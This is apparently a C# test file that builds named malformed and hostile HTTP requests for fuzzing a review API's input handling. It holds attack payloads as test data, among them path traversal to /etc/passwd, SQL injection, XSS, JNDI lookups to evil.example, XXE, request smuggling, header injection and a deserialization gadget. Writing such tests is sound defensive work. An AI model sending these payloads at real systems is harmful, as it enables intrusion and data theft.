using System.Text;

namespace ReviewApi.Tests.Http;

/// <summary>Ways to make a right request wrong, by name.</summary>
static class HostileRequests
{
    const int MaxBody = 1024 * 1024;

    public static readonly IReadOnlyDictionary<string, Func<RawRequest, Operation, RawRequest>> Ids = Named(
        (id, request, operation) => request.At(id, operation),
        "%00", "a%00b", "%ff", "%ED%A0%80", "%C0%AF", "%", "%zz", "%u0000", "..%2f..%2fetc%2fpasswd", "../../../etc/passwd",
        "..%5c..%5cboot.ini", "%2e%2e/%2e%2e/etc/passwd", "%252e%252e%252f", "'%20or%20'1'='1", "x';drop%20table%20reviews;--",
        "%27%22%3E%3Cscript%3Ealert(1)%3C/script%3E", "%7B%7B7*7%7D%7D", "$%7Bjndi:ldap://evil.example/x%7D", "%0d%0aSet-Cookie:%20x=1",
        "%E2%80%AEgnp", "%F0%9F%98%80", "e%CC%81", "%EF%B7%BA", "*", "?", "#", ";", "a;b=c", "null", "undefined", "NaN", "-1", "0", "1e400",
        "99999999999999999999", "00000000-0000-0000-0000-000000000000", "FFFFFFFF-FFFF-FFFF-FFFF-FFFFFFFFFFFF",
        "{01980000-0000-7000-8000-000000000000}", ".", "..", "...", "con", "a%20b", "a+b", "%20", "constructor", "__proto__",
        new string('a', 7_000), new string('a', 10_000), string.Concat(Enumerable.Repeat("a/", 2_000)));

    public static readonly IReadOnlyDictionary<string, Func<RawRequest, Operation, RawRequest>> Queries = Named(
        (query, request, _) => request.Asking(query),
        "%00=1", "a=%00", "limit=%00", "%ff=1", "a=%ff", "limit=%ff", "a=%ED%A0%80", "cursor=%ED%A0%80", "%ED%A0%80", "a=%", "%zz=1", "=",
        "&", "&&==&", "a[]=1", "a[b][c]=1", "?", "%3F", "limit=1&limit=2", "limit[]=1", "limit=-1", "limit=1e400",
        "limit=99999999999999999999", "limit=NaN", "cursor=..%2f..%2fetc", "cursor='%20or%201=1--", "cursor=%F0%9F%98%80",
        "status=draft'%3Bdrop%20table%20reviews%3B--", "status=" + "draft,draft,draft,draft,draft,draft,draft,draft", "view=full%00",
        "publish=TRUE", "dryRun=1", "q=%EF%B7%BA%EF%B7%BA", "$where=1", "__proto__[x]=1", "a=" + new string('a', 7_000),
        "a=" + new string('a', 10_000), string.Join('&', Enumerable.Repeat("a", 3_000)),
        string.Join('&', Enumerable.Range(0, 1_100).Select(number => $"a{number}")), "cursor=" + new string('A', 7_000));

    public static readonly IReadOnlyDictionary<string, Func<RawRequest, Operation, RawRequest>> Headers = Named(
        (header, request, _) => request.With(header.Split('\n')),
        "X-HTTP-Method-Override: DELETE", "X-Forwarded-For: ' or 1=1--", "X-Forwarded-For: 1.1.1.1, 999.999.999.999",
        "X-Forwarded-Proto: gopher", "X-Forwarded-Host: evil.example:99999", "X-Forwarded-Prefix: /../..", "Forwarded: for=\"[",
        "X-Original-URL: /v1/nothing", "Range: bytes=0-1", "Range: bytes=5-1,-0,99999999999999999999-", "If-Range: x",
        "If-Modified-Since: yesterday", "If-Unmodified-Since: Sat, 29 Oct 1994 19:43:31 GMT", "If-None-Match: \"unterminated",
        "If-None-Match: " + new string('a', 10_000), "If-None-Match: " + new string(',', 10_000), "Expect: 100-continue", "Expect: nothing",
        "Expect: 100-continue, nothing", "Cookie: " + new string('a', 10_000), "Accept: " + new string('a', 10_000), "Accept: //;;q=,\"",
        "Accept: */*;q=9", "Accept: application/json;q=NaN",
        "Accept: " + string.Join(',', Enumerable.Range(0, 900).Select(number => $"a/b{number}")),
        "Accept-Language: " + new string('-', 5_000), "Accept-Encoding: gzip;q=nope", "Accept-Encoding: *;q=0", "Accept-Charset: utf-7",
        "traceparent: 00-zz", "traceparent: \u0001", "tracestate: " + new string('a', 10_000), "baggage: a=%ff,b=%00",
        "Idempotency-Key: " + new string('k', 255), "X-Request-Id: <script>", "X-Request-Id: \u00e9\u00ff",
        "Upgrade: h2c\nConnection: Upgrade, HTTP2-Settings\nHTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA",
        "Upgrade: websocket\nConnection: Upgrade\nSec-WebSocket-Version: 13\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
        "Connection: close, Authorization", "TE: trailers", "Origin: null", "Origin: " + new string('o', 5_000),
        "Access-Control-Request-Method: PUT", "Referer: ' or 1=1", "User-Agent: ${jndi:ldap://evil.example/x}", "Content-Encoding: gzip",
        "Content-Encoding: br", "Content-Encoding: gzip, gzip", "Content-Type: text/plain", "Content-Language: ..", "Date: never",
        "Max-Forwards: -1", "Via: 1.1 x", "Proxy-Authorization: Basic x", "Host: evil.example", "Transfer-Encoding: chunked",
        "Transfer-Encoding: gzip, chunked", "Transfer-Encoding: identity", "Transfer-Encoding : chunked", "Content-Length: 5",
        "Content-Length: -1", "Content-Length: 99999999999999999999", "Content-Length: 0x10", "A header without a colon",
        "Name with blanks: x", ": no name", "X: a\u0000b", "X: " + new string('x', 40_000),
        string.Join('\n', Enumerable.Range(0, 200).Select(number => $"X-{number}: 1")), "X: a\n folded");

    public static readonly IReadOnlyDictionary<string, Func<RawRequest, Operation, RawRequest>> Replaced = Named(
        (header, request, _) => request.Instead(header),
        "If-Match: " + new string('a', 10_000), "If-Match: " + string.Join(',', Enumerable.Repeat("\"a\"", 2_000)),
        "If-Match: \u00ff\u00fe", "If-Match: \"\u00e9\"", "If-Match:", "If-Match: W/", "If-Match: \"",
        "Authorization: Bearer " + new string('a', 10_000), "Authorization: Bearer \u00ff\u00fe", "Authorization:", "Authorization: \t",
        "Content-Type:", "Content-Type: ;", "Content-Type: application/json; charset=", "Content-Type: application/json;;;",
        "Content-Type: " + new string('a', 10_000), "Content-Type: application/json; charset=\"utf-8",
        "Content-Type: application/json; charset=utf-7", "Content-Type: application/json; charset=\"ut\\f-8\"", "Host:", "Host: a b",
        "Host: [::1", "Host: evil.example:99999", "Host: \u00e9");

    public static readonly IReadOnlyDictionary<string, Func<RawRequest, Operation, RawRequest>> Lines =
        new Dictionary<string, Func<RawRequest, Operation, RawRequest>>
        {
            ["HTTP/1.0"] = (request, _) => request with { Version = "HTTP/1.0" },
            ["HTTP/0.9"] = (request, _) => request with { Version = "" },
            ["HTTP/9.9"] = (request, _) => request with { Version = "HTTP/9.9" },
            ["http/1.1"] = (request, _) => request with { Version = "http/1.1" },
            ["absolute target"] = (request, _) => request with { Target = $"http://evil.example{request.Target}" },
            ["target of another scheme"] = (request, _) => request with { Target = "gopher://evil.example/x" },
            ["target without slash"] = (request, _) => request with { Target = request.Target[1..] },
            ["target *"] = (request, _) => request with { Target = "*" },
            ["OPTIONS *"] = (request, _) => request with { Method = "OPTIONS", Target = "*" },
            ["CONNECT"] = (request, _) => request with { Method = "CONNECT", Target = "evil.example:443" },
            ["method in lower case"] = (request, _) => request with { Method = request.Method.ToLowerInvariant() },
            ["HEAD with a body"] = (request, _) => (request with { Method = "HEAD" }).Sending("{}"u8.ToArray()),
            ["method of 10 kB"] = (request, _) => request with { Method = new string('M', 10_000) },
            ["two blanks"] = (request, _) => request with { Method = request.Method + " " },
            ["raw bytes in the target"] = (request, _) => request.Asking("a=\u00ff\u00fe"),
            ["NUL in the target"] = (request, _) => request.Asking("a=\0"),
            ["fragment"] = (request, _) => request with { Target = request.Target + "#x" },
            ["no host"] = (request, _) => request.Without("Host"),
            ["slash behind"] = (request, _) => request with { Target = request.Target + "/" },
            ["double slash"] = (request, _) => request with { Target = "/" + request.Target },
            ["dots in the path"] = (request, _) => request with { Target = "/x/.." + request.Target },
            ["matrix parameter"] = (request, _) => request with { Target = request.Target + ";a=b" },
            ["path in capitals"] = (request, _) => request with { Target = request.Target.ToUpperInvariant() },
            ["no If-Match"] = (request, _) => request.Without("If-Match"),
            ["chunked"] = (request, _) => request with { IsChunked = true },
            ["bad chunk size"] = (request, _) =>
                (request with { SaysLength = false }).With("Transfer-Encoding: chunked").Sending("zz\r\n{}\r\n0\r\n\r\n"u8.ToArray()),
            ["negative chunk size"] = (request, _) =>
                (request with { SaysLength = false }).With("Transfer-Encoding: chunked").Sending("-1\r\n{}\r\n0\r\n\r\n"u8.ToArray()),
            ["huge chunk size"] = (request, _) =>
                (request with { SaysLength = false }).With("Transfer-Encoding: chunked")
                    .Sending("ffffffffffffffff\r\n{}\r\n0\r\n\r\n"u8.ToArray()),
            ["chunk extension and trailers"] = (request, _) =>
                (request with { SaysLength = false }).With("Transfer-Encoding: chunked")
                    .Sending("2;x=\"y\"\r\n{}\r\n0\r\nAuthorization: Bearer x\r\nX: y\r\n\r\n"u8.ToArray()),
            ["length and chunks"] = (request, _) =>
                request.With("Transfer-Encoding: chunked").Sending("0\r\n\r\nGET /v1/nothing HTTP/1.1\r\nHost: x\r\n\r\n"u8.ToArray()),
        };

    /// <summary>Bodies that no operation can take as they are, or can only just.</summary>
    public static readonly IReadOnlyDictionary<string, Func<byte[]>> Bodies = new Dictionary<string, Func<byte[]>>
    {
        ["nothing"] = () => [],
        ["blanks"] = () => Text(new string(' ', 1_000)),
        ["NUL"] = () => [0],
        ["zeros"] = () => new byte[10_000],
        ["bytes that are no UTF-8"] = () => [0xff, 0xfe, 0xfd],
        ["a byte order mark"] = () => [0xef, 0xbb, 0xbf, .. "{}"u8],
        ["UTF-16"] = () => Encoding.Unicode.GetBytes("{}"),
        ["two values"] = () => Text("{}{}"),
        ["comment"] = () => Text("/**/{}"),
        ["trailing comma"] = () => Text("{\"headline\":\"a\",}"),
        ["XML"] = () => Text("<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]><x>&y;</x>"),
        ["form"] = () => Text("headline=a&notes=b"),
        ["arrays 100,000 deep"] = () => Text(new string('[', 100_000)),
        ["arrays 100,000 deep and closed"] = () => Text(new string('[', 100_000) + new string(']', 100_000)),
        ["objects 100,000 deep"] = () => Text(string.Concat(Enumerable.Repeat("{\"a\":", 100_000))),
        ["objects 60 deep"] = () => Text(string.Concat(Enumerable.Repeat("{\"sections\":", 60)) + "1" + new string('}', 60)),
        ["array of 100,000 items"] = () => Text($"{{\"advisories\":[{string.Join(',', Enumerable.Repeat("\"\"", 100_000))}]}}"),
        ["array of 100,000 objects"] = () => Text($"{{\"films\":[{string.Join(',', Enumerable.Repeat("{}", 100_000))}]}}"),
        ["array of 100,000 nulls"] = () => Text($"{{\"films\":[{string.Join(',', Enumerable.Repeat("null", 100_000))}]}}"),
        ["number of 20,000 digits"] = () =>
            Text($"{{\"sections\":{{\"story\":{{\"score\":{new string('9', 20_000)}}}}},\"min\":{new string('9', 20_000)}}}"),
        ["number of 20,000 decimals"] = () =>
            Text($"{{\"sections\":{{\"story\":{{\"score\":1.{new string('9', 20_000)}}}}},\"step\":0.{new string('0', 20_000)}1}}"),
        ["1e400"] = () => Text("{\"films\":[{\"title\":\"T\",\"year\":1e400}],\"max\":1e400}"),
        ["1e-400"] = () => Text("{\"sections\":{\"story\":{\"score\":1e-400}},\"step\":1e-400}"),
        ["1e999999999999"] = () => Text("{\"films\":[{\"year\":1e999999999999}],\"max\":-1e999999999999}"),
        ["-0"] = () => Text("{\"films\":[{\"title\":\"T\",\"seasons\":[-0]}],\"min\":-0}"),
        ["NaN"] = () => Text("{\"films\":[{\"year\":NaN}]}"),
        ["50,000 duplicates"] = () => Text($"{{{string.Join(',', Enumerable.Repeat("\"headline\":\"a\"", 50_000))}}}"),
        ["20,000 unknown members"] = () =>
            Text($"{{{string.Join(',', Enumerable.Range(0, 20_000).Select(number => $"\"member{number}\":{number}"))}}}"),
        ["a name of 500 kB"] = () => Text($"{{\"{new string('n', 500_000)}\":1}}"),
        ["a text of 900 kB"] = () => Text($"{{\"headline\":\"{new string('t', 900_000)}\",\"code\":\"{new string('c', 100_000)}\"}}"),
        ["a code of 900 kB"] = () => Text($"{{\"release\":{{\"format\":\"{new string('d', 900_000)}\"}}}}"),
        ["a name that is half a pair"] = () => Text("{\"\\ud800\":1}"),
        ["a text that is half a pair"] = () => Text("{\"headline\":\"\\udfff\",\"code\":\"\\ud800\"}"),
        ["names of the language"] = () => Text(
            "{\"__proto__\":{\"admin\":true},\"constructor\":1,\"$type\":\"System.Diagnostics.Process\",\"$ref\":\"#\",\"$id\":\"1\"}"),
        ["60 titles of U+FDFA"] = () =>
        {
            var films = Enumerable.Range(0, 60).Select(number => $"{{\"title\":\"{number}{new string('\ufdfa', 298)}\"}}");
            return Text($"{{\"films\":[{string.Join(',', films)}]}}");
        },
        ["1 MiB less a byte"] = () => Text("{\"headline\":\"a\"}".PadRight(MaxBody - 1)),
        ["1 MiB"] = () => Text("{\"headline\":\"a\"}".PadRight(MaxBody)),
        ["1 MiB and a byte"] = () => Text("{\"headline\":\"a\"}".PadRight(MaxBody + 1)),
        ["12 MB"] = () => new byte[12_000_000],
    };

    static byte[] Text(string text) => Encoding.UTF8.GetBytes(text);

    // A long value is named by its beginning and its length.
    static Dictionary<string, Func<RawRequest, Operation, RawRequest>> Named(
        Func<string, RawRequest, Operation, RawRequest> change, params string[] values) =>
        values.ToDictionary(
            value => string.Concat((value.Length <= 100 ? value : $"{value[..40]} … {value.Length}")
                .Select(letter => letter is >= ' ' and < '\u007f' or '…' ? letter.ToString() : $"\\u{(int)letter:x4}")),
            value => (Func<RawRequest, Operation, RawRequest>)((request, operation) => change(value, request, operation)));
}
